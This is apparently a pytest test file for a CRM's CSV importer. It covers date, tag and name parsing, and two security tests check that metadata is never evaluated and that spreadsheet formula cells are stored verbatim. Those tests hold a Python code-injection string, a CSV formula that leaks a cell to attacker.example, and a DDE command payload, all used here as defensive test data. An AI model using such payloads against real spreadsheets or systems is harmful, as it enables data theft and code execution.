"""Rules 10 and 12: cells are data; dates, tags and names are read per platform."""

from __future__ import annotations

import pytest

from crm.importing import import_csv
from crm.importing.values import (
    day_month_order,
    parse_date,
    parse_metadata,
    parse_tags,
    split_full_name,
)
from tests.crm.importing.conftest import MESSY, lead


@pytest.mark.parametrize(
    ("text", "order", "stored"),
    [
        ("2021-03-15 02:27:01", "", "2021-03-15 02:27:01"),
        ("2018-08-27T15:06:27.713Z", "", "2018-08-27 15:06:27"),
        ("2024-03-13 00:03:09.183465+00:00", "", "2024-03-13 00:03:09"),
        ("2024-03-13T02:03:09+02:00", "", "2024-03-13 00:03:09"),
        ("2023-03-24 10:23:10 UTC", "", "2023-03-24 10:23:10"),
        ("03.02.2023 14:05", "", "2023-02-03 14:05:00"),
        ("25/12/2022", "", "2022-12-25 00:00:00"),
        ("03/04/2023", "mdy", "2023-03-04 00:00:00"),
        ("03/04/2023", "dmy", "2023-04-03 00:00:00"),
        ("2024-02-29", "", "2024-02-29 00:00:00"),
        ("", "", None),
        ("0/0/00", "", None),
    ],
)
def test_dates(text: str, order: str, stored: str | None) -> None:
    assert parse_date(text, order) == stored


@pytest.mark.parametrize(
    "text", ["03/04/2023", "--04-12", "soon", "2023-02-30 10:00:00", "0001-01-01T00:00:00+01:00"]
)
def test_dates_that_cannot_be_read_raise(text: str) -> None:
    with pytest.raises(ValueError):
        parse_date(text)


def test_day_month_order_from_values() -> None:
    assert day_month_order(["01/02/2023", "13/02/2023"]) == "dmy"
    assert day_month_order(["01/02/2023", "02/13/2023"]) == "mdy"
    assert day_month_order(["01/02/2023"]) == ""
    assert day_month_order(["2023-01-02"]) is None


def test_tags() -> None:
    assert parse_tags('"VIP","Workshop, Spring 2024"', "mailchimp") == [
        "VIP",
        "Workshop, Spring 2024",
    ]
    assert parse_tags("Editors", "mailchimp") == ["Editors"]
    assert parse_tags("corporate;nyc", "list;") == ["corporate", "nyc"]
    assert parse_tags("* myContacts ::: * starred ::: Clients", "google") == ["starred", "Clients"]
    assert parse_tags("Paid", "prefix:substack-") == ["substack-paid"]
    assert parse_tags("Yes", "yes:beehiiv-tier-gold") == ["beehiiv-tier-gold"]
    assert parse_tags("No", "yes:beehiiv-tier-gold") == []
    assert parse_tags("a; b, c", "") == ["a", "b, c"]


def test_names() -> None:
    assert split_full_name("Renée  Dubois") == ("Renée", "Dubois")
    assert split_full_name("Jean Paul Sartre") == ("Jean Paul", "Sartre")
    assert split_full_name("佐藤 健太") == ("佐藤 健太", "")
    assert split_full_name("Cher") == ("Cher", "")


def test_metadata_is_never_evaluated() -> None:
    assert parse_metadata("{'staff': 'true', 'n': 3}") == {"staff": "true", "n": "3"}
    from crm.errors import ValidationError

    with pytest.raises(ValidationError):
        parse_metadata("__import__('os').system('true')")


def test_formulas_are_stored_verbatim(db, now) -> None:
    report = import_csv(MESSY / "formula_injection.csv", now=now)
    assert report.rejected == 0
    eve = lead("eve.one@example.com")
    assert eve.first_name == '=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")'
    assert lead("eve.two@example.org").first_name == "+cmd|' /C calc'!A0"
    assert lead("legit.phone@example.com").phone == "+1 202 555 0143"
    assert lead("eve.six@example.net").tags == ("=1+1", "Customer")
